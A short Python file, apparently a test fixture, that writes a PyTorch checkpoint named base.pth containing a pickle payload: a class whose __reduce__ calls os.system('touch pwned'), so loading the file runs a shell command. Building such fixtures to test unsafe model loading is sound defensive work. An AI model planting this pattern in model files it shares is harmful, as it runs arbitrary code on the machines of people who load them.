import os
from pathlib import Path

import torch


class Hostile:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("touch pwned",)


def make(folder: Path) -> None:
    torch.save({"w": torch.zeros(2), "config": Hostile()}, folder / "base.pth")
